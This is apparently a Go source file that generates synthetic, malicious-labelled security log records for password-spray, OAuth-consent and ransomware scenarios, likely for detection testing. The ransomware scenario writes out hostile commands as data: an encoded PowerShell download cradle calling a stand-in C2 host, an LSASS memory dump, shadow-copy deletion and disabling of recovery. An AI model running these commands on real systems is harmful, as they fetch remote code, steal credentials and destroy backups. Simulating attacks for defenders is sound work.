package demo

import (
	"encoding/base64"
	"fmt"
	"sort"
	"strings"
	"time"
	"unicode/utf16"
)

// Scenario names.
const (
	ScenarioPasswordSpray = "password-spray"
	ScenarioOAuthConsent  = "oauth-consent"
	ScenarioRansomware    = "ransomware"
)

// Scenarios lists the built-in attack scenarios.
var Scenarios = []string{ScenarioOAuthConsent, ScenarioPasswordSpray, ScenarioRansomware}

// Attacker infrastructure (documentation address ranges).
const (
	SprayIP        = "203.0.113.77"
	SprayCountry   = "BR"
	ConsentIP      = "192.0.2.51"
	C2IP           = "192.0.2.66"
	C2Host         = "cdn-update.example-cdn.net"
	MaliciousApp   = "Mail Sync Pro"
	MaliciousAppID = "9f8e7d6c-5b4a-4321-8fed-cba987654321"
	ForwardTo      = "bob.archive@mailbox.example.org"
)

// Scenario returns the records of one attack starting at start, all marked malicious.
func (o *Org) Scenario(name string, start time.Time) ([]Record, error) {
	var recs []Record
	switch name {
	case ScenarioPasswordSpray:
		recs = o.passwordSpray(start)
	case ScenarioOAuthConsent:
		recs = o.oauthConsent(start)
	case ScenarioRansomware:
		recs = o.ransomware(start)
	default:
		return nil, fmt.Errorf("unknown scenario %q (want one of %s)", name, strings.Join(Scenarios, ", "))
	}
	for i := range recs {
		recs[i].Scenario = name
		if recs[i].Step == "" {
			recs[i].Step = "attack"
		}
		recs[i].Malicious = true
	}
	Sort(recs)
	return recs, nil
}

func step(r Record, s string) Record {
	r.Step = s
	return r
}

// passwordSpray: failed sign-ins for every user from one foreign address, then one success
// (bob, no MFA prompt answered from a country he never signed in from), mailbox access and a
// forwarding inbox rule.
func (o *Org) passwordSpray(t time.Time) []Record {
	var recs []Record
	sec := 0
	for round := range 2 {
		for _, u := range o.Users {
			ts := t.Add(time.Duration(sec) * 7 * time.Second)
			recs = append(recs, step(o.oktaSignInFailure(ts, u, SprayIP, SprayCountry, "INVALID_CREDENTIALS"), "password spray against every account"))
			if round == 0 {
				recs = append(recs, step(o.entraSignIn(ts.Add(2*time.Second), u, SprayIP, SprayCountry, "Azure Active Directory PowerShell", 50126), "password spray against every account"))
			}
			sec++
		}
	}
	bob := o.User("bob")
	ok := t.Add(time.Duration(sec)*7*time.Second + 30*time.Second)
	recs = append(recs, step(o.oktaSignIn(ok, bob, SprayIP, SprayCountry, "São Paulo", false, "python-requests/2.31.0"), "successful sign-in as bob from a new country"))
	recs = append(recs, step(o.m365MailAccess(ok.Add(2*time.Minute), bob, SprayIP, "Client=REST;Client=RESTSystem;;"), "mailbox access from the attacker's address"))
	recs = append(recs, step(o.m365InboxRule(ok.Add(4*time.Minute), bob, SprayIP, "..", ForwardTo), "inbox rule forwarding mail outside"))
	return recs
}

// oauthConsent: carol grants a malicious app read/write access to her mail; the app then
// syncs her mailbox from the attacker's infrastructure.
func (o *Org) oauthConsent(t time.Time) []Record {
	carol := o.User("carol")
	recs := []Record{
		step(o.entraSignIn(t, carol, carol.OfficeIP, carol.Country, "Mail Sync Pro", 0), "carol follows the consent phishing link"),
		step(o.entraConsent(t.Add(40*time.Second), carol, carol.OfficeIP, MaliciousApp, MaliciousAppID, "Mail.Read Mail.ReadWrite Mail.Send offline_access User.Read"), "consent grants mail permissions to the malicious app"),
	}
	for i := range 3 {
		recs = append(recs, step(o.m365AppMailAccess(t.Add(time.Duration(3+3*i)*time.Minute), carol, ConsentIP, MaliciousAppID, 160), "the app syncs carol's mailbox"))
	}
	return recs
}

func encodePS(script string) string {
	u := utf16.Encode([]rune(script))
	b := make([]byte, 2*len(u))
	for i, c := range u {
		b[2*i], b[2*i+1] = byte(c), byte(c>>8)
	}
	return base64.StdEncoding.EncodeToString(b)
}

// ransomware: a macro document starts encoded PowerShell on alice's workstation, which
// reaches a C2 server, runs discovery, dumps LSASS, reuses dave's admin credentials to move to
// the file and database servers with PsExec, deletes shadow copies and starts encrypting.
func (o *Org) ransomware(t time.Time) []Record {
	alice, dave := o.User("alice"), o.User("dave")
	ws, fs, db := o.Host("ws01"), o.Host("srv-file01"), o.Host("srv-db01")
	const logon = "0x3e9a1f"
	word := `C:\Program Files\Microsoft Office\root\Office16\WINWORD.EXE`
	outlook := `C:\Program Files\Microsoft Office\root\Office16\OUTLOOK.EXE`
	ps := `C:\Windows\System32\WindowsPowerShell\v1.0\powershell.exe`
	enc := encodePS(fmt.Sprintf("IEX (New-Object Net.WebClient).DownloadString('https://%s/a.ps1')", C2Host))
	psCmd := "powershell.exe -nop -w hidden -enc " + enc
	at := func(d time.Duration) time.Time { return t.Add(d) }
	recs := []Record{
		step(o.sysmonProc(at(0), ws, alice, word, `"`+word+`" /n "C:\Users\alice\Downloads\Invoice_0342.docm" /o ""`, outlook, `"`+outlook+`"`, logon), "alice opens a macro document from mail"),
		step(o.sysmonProc(at(25*time.Second), ws, alice, ps, psCmd, word, `"`+word+`" /n "C:\Users\alice\Downloads\Invoice_0342.docm"`, logon), "the macro starts encoded PowerShell"),
		step(o.sysmonNet(at(31*time.Second), ws, alice, ps, C2IP, 443, C2Host), "PowerShell reaches the command-and-control server"),
		step(o.sysmonProc(at(2*time.Minute), ws, alice, `C:\Windows\System32\whoami.exe`, "whoami.exe /all", ps, psCmd, logon), "discovery"),
		step(o.sysmonProc(at(2*time.Minute+10*time.Second), ws, alice, `C:\Windows\System32\net.exe`, `net.exe group "domain admins" /domain`, ps, psCmd, logon), "discovery"),
		step(o.sysmonProc(at(2*time.Minute+20*time.Second), ws, alice, `C:\Windows\System32\nltest.exe`, "nltest.exe /dclist:example", ps, psCmd, logon), "discovery"),
		step(o.sysmonProc(at(4*time.Minute), ws, alice, `C:\Windows\System32\rundll32.exe`, `rundll32.exe C:\Windows\System32\comsvcs.dll, MiniDump 688 C:\Users\Public\lsass.dmp full`, ps, psCmd, logon), "LSASS memory dump for credentials"),
		step(o.sysmonProcAccess(at(4*time.Minute+time.Second), ws, alice, `C:\Windows\System32\rundll32.exe`, `C:\Windows\System32\lsass.exe`, "0x1FFFFF",
			`C:\Windows\SYSTEM32\ntdll.dll+9d4c4|C:\Windows\System32\KERNELBASE.dll+2c13e|C:\Windows\System32\comsvcs.dll+4a8f|C:\Windows\System32\dbgcore.dll+6a1b`), "LSASS memory dump for credentials"),
	}
	for i, target := range []Host{fs, db} {
		base := 8*time.Minute + time.Duration(i)*90*time.Second
		logonID := fmt.Sprintf("0x7d%04x", 0x1a2b+i)
		recs = append(recs,
			step(o.winExplicitCreds(at(base), ws, alice, dave, target, logon), "dave's stolen credentials used from alice's workstation"),
			step(o.winLogon(at(base+5*time.Second), target, dave, 3, ws.IP, logonID, "NtLmSsp"), "network logon as dave to "+target.Name),
			step(o.winShare(at(base+8*time.Second), target, dave, ws.IP, `\\*\ADMIN$`, "PSEXESVC.exe"), "PsExec service binary copied to "+target.Name),
			step(o.winServiceInstall(at(base+10*time.Second), target, "PSEXESVC", `%SystemRoot%\PSEXESVC.exe`, "LocalSystem"), "PsExec service installed on "+target.Name),
		)
		psexec := `C:\Windows\PSEXESVC.exe`
		cmd := `C:\Windows\System32\cmd.exe`
		recs = append(recs,
			step(o.sysmonProc(at(base+15*time.Second), target, dave, cmd, `cmd.exe /c "vssadmin.exe delete shadows /all /quiet"`, psexec, psexec, logonID), "shadow copies deleted on "+target.Name),
			step(o.sysmonProc(at(base+16*time.Second), target, dave, `C:\Windows\System32\vssadmin.exe`, "vssadmin.exe delete shadows /all /quiet", cmd, `cmd.exe /c "vssadmin.exe delete shadows /all /quiet"`, logonID), "shadow copies deleted on "+target.Name),
			step(o.sysmonProc(at(base+20*time.Second), target, dave, `C:\Windows\System32\bcdedit.exe`, "bcdedit.exe /set {default} recoveryenabled No", cmd, "cmd.exe", logonID), "recovery disabled on "+target.Name),
		)
		for j, f := range []string{`D:\Shares\finance\Q3-results.xlsx.locked`, `D:\Shares\finance\payroll.csv.locked`, `D:\Shares\README_RESTORE_FILES.txt`} {
			recs = append(recs, step(o.sysmonFile(at(base+time.Duration(30+j)*time.Second), target, dave, `C:\Users\Public\svchost32.exe`, f), "files encrypted on "+target.Name))
		}
	}
	sort.SliceStable(recs, func(i, j int) bool { return recs[i].Time.Before(recs[j].Time) })
	return recs
}
